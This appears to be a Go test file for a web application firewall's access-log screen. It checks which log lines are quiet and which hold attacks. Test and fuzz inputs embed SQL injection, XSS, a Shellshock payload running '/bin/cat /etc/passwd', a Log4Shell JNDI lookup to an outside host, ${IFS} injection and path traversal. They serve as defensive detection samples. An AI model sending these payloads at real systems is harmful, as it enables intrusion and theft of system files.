package waf_test

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sasumata/sasumata/internal/event"
	"github.com/sasumata/sasumata/internal/waf"
	"github.com/sasumata/sasumata/internal/waf/crs"
	"github.com/sasumata/sasumata/test/conformance"
)

const (
	lineHead = `203.0.113.7 - - [17/May/2026:10:05:03 +0000] "`
	lineTail = ` HTTP/1.1" 200 2031 "https://shop.example/list?page=3" "` + browser + `"`
)

func TestScreen(t *testing.T) {
	s := waf.NewScreen(inspector(t))
	f := func(line string, want bool) {
		t.Helper()
		for range 2 { // the second time from memory
			if got := s.Quiet([]byte(line)); got != want {
				t.Errorf("%s: quiet is %v", line, got)
			}
		}
	}
	f(lineHead+"GET /"+lineTail, true)
	f(lineHead+"GET /search?q=select+a+colour"+lineTail, true)
	f(`2001:db8::7 - alice@example [17/May/2026:10:05:03 -0730] "HEAD /a/b.png HTTP/2.0" 304 - "-" "curl/8.5.0"`, true)
	f(lineHead+`GET / HTTP/1.1" 200 5 "-" "curl/8.5.0" "-"`, true)
	f(lineHead+`GET / HTTP/1.1" 200 5 "-" "curl/8.5.0" "192.0.2.1, 2001:db8::1"`, true)
	// Attacks in each part.
	f(lineHead+"GET /?id=1%27%20UNION%20SELECT%201,2--"+lineTail, false)
	f(lineHead+`GET / HTTP/1.1" 200 5 "https://x.example/?q=<script>alert(1)</script>" "curl/8.5.0"`, false)
	f(lineHead+`GET / HTTP/1.1" 200 5 "-" "() { :; }; /bin/cat /etc/passwd"`, false)
	f(lineHead+`GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://x.example/a}"`, false)
	// Lines that are not, or not surely, what the screen knows.
	f("", false)
	f(lineHead+`GET / HTTP/1.1" 200 5`, false)
	f(lineHead+`GET / HTTP/1.1" 200 5 "-" "curl/8.5.0" "a <b>"`, false)
	f(lineHead+`GET / HTTP/1.1" 200 5 "-" "curl/8.5.0" "`, false)
	f(lineHead+`GET / HTTP/1.1" 200 5 "-" "curl/8.5.0" "-" "-"`, false)
	f(lineHead+`GET / HTTP/1.1" 200 5 "-" "curl" 0.003`, false)
	f(lineHead+`GET /" HTTP/1.1" 200 5 "-" "curl/8.5.0"`, false)
	f(lineHead+`GET /\x22 HTTP/1.1" 200 5 "-" "curl/8.5.0"`, false)
	f(lineHead+`GET /ä HTTP/1.1" 200 5 "-" "curl/8.5.0"`, false)
	f(lineHead+"GET /\x7f HTTP/1.1\" 200 5 \"-\" \"curl/8.5.0\"", false)
	f(lineHead+"GET /\t HTTP/1.1\" 200 5 \"-\" \"curl/8.5.0\"", false)
	f(lineHead+`GET /a b HTTP/1.1" 200 5 "-" "curl/8.5.0"`, false)
	f(lineHead+`GET / HTTP/9.9" 200 5 "-" "curl/8.5.0"`, false)
	f(lineHead+`GET /" 200 5 "-" "curl/8.5.0"`, false)
	f(lineHead+`-" 408 0 "-" "-"`, false)
	f(lineHead+`GET / HTTP/1.1" 200 x "-" "curl/8.5.0"`, false)
	f(lineHead+`GET / HTTP/1.1" 2000 5 "-" "curl/8.5.0"`, false)
	f(`www.example.com `+lineHead+"GET /"+lineTail, false)
	f(`203.0.113.7 - a b [17/May/2026:10:05:03 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8.5.0"`, false)
	f(`203.0.113.7 -  [17/May/2026:10:05:03 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8.5.0"`, false)
	f(`203.0.113.7 - - [17-May-2026:10:05:03 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8.5.0"`, false)
	f(`203.0.113.7 - - [17/May/2026:10:05:03] "GET / HTTP/1.1" 200 5 "-" "curl/8.5.0"`, false)
}

// TestScreenAddsUp holds that two parts that are no attack alone can be one together.
func TestScreenAddsUp(t *testing.T) {
	const rule = `SecRule %s "@contains sasu" "id:%d,phase:2,block,msg:'x',severity:CRITICAL,setvar:tx.inbound_anomaly_score_pl1=+%%{tx.critical_anomaly_score}"` + "\n"
	text := fmt.Sprintf(rule, "REQUEST_URI", 100001) + fmt.Sprintf(rule, "REQUEST_HEADERS:User-Agent", 100002)
	s := waf.NewScreen(inspector(t, crs.File{Name: "own.conf", Data: []byte(text)}))
	f := func(path, agent string, want bool) {
		t.Helper()
		for range 2 {
			if got := s.Quiet([]byte(lineHead + "GET " + path + ` HTTP/1.1" 200 5 "-" "` + agent + `"`)); got != want {
				t.Errorf("%s, %s: quiet is %v", path, agent, got)
			}
		}
	}
	f("/sasu", "curl/8.5.0", true)
	f("/", "sasu", true)
	f("/sasu", "sasu", false)
	f("/sasu", "curl/8.5.0", true)
}

func TestScreenAllocatesNothing(t *testing.T) {
	if raceDetector {
		t.Skip("the race detector allocates for the calls that it watches: counted without it")
	}
	s, line := waf.NewScreen(inspector(t)), []byte(lineHead+"GET /products/1234?page=2"+lineTail)
	if n := testing.AllocsPerRun(100, func() {
		if !s.Quiet(line) {
			t.Fatal("not quiet")
		}
	}); n != 0 {
		t.Errorf("%v allocations", n)
	}
}

// FuzzScreen holds that no quiet line holds an attack: not in the parts that any
// reader would take out of it.
func FuzzScreen(f *testing.F) {
	i := inspector(f)
	s, m, e := waf.NewScreen(i), waf.NewMachine(), event.New()
	f.Add(lineHead, "GET /a?b=c HTTP/1.1", "https://shop.example/", browser)
	f.Add(lineHead, "POST /a.php?session_id=1 HTTP/1.0", "http://evil.example/", "-")
	f.Add(lineHead, "GET /?a=${jndi:x} HTTP/2.0", "", "${IFS}")
	f.Add(lineHead, "GET //etc/passwd HTTP/3.0", "-", "sqlmap/1.0")
	f.Fuzz(func(t *testing.T, head, request, referer, agent string) {
		line := head + request + `" 200 5 "` + referer + `" "` + agent + `"`
		if !s.Quiet([]byte(line)) {
			return
		}
		if !fill(e, line) {
			t.Fatalf("%q: no request line", line)
		}
		e.Set(event.HTTPVersion, event.StringValue(request[len(request)-3:]))
		e.Set(event.HTTPMethod, event.StringValue(request[:strings.IndexByte(request, ' ')]))
		v := i.Inspect(e, m)
		if v.Attack {
			t.Fatalf("%q is quiet, but: %+v", line, v)
		}
	})
}

// BenchmarkScreen measures lines of recorded access logs that come again and again,
// and the same with a number in each path, so that no request was there before.
func BenchmarkScreen(b *testing.B) {
	lines := accessLines(b)
	bench := func(name string, line func(i int) []byte) {
		b.Run(name, func(b *testing.B) {
			s, quiet := waf.NewScreen(inspector(b)), 0
			for _, l := range lines {
				s.Quiet(l)
			}
			for i := 0; b.Loop(); i++ {
				if s.Quiet(line(i)) {
					quiet++
				}
			}
			b.ReportMetric(100*float64(quiet)/float64(b.N), "%quiet")
		})
	}
	bench("repeated", func(i int) []byte { return lines[i%len(lines)] })
	var fresh [][]byte
	for i := range 1_000_000 / len(lines) * len(lines) {
		fresh = append(fresh, bytes.Replace(lines[i%len(lines)], []byte(" HTTP/1."), fmt.Appendf(nil, "/%d HTTP/1.", i), 1))
	}
	bench("every_URI_new", func(i int) []byte { return fresh[i%len(fresh)] })
}

func accessLines(tb testing.TB) [][]byte {
	tb.Helper()
	names, err := filepath.Glob(filepath.Join(conformance.Dir(tb, "access"), "*.log"))
	if err != nil || len(names) == 0 {
		tb.Fatalf("access logs: %v %v", names, err)
	}
	var lines [][]byte
	for _, name := range names {
		data, err := os.ReadFile(name)
		if err != nil {
			tb.Fatal(err)
		}
		lines = append(lines, bytes.Split(bytes.TrimSpace(data), []byte{'\n'})...)
	}
	return lines
}
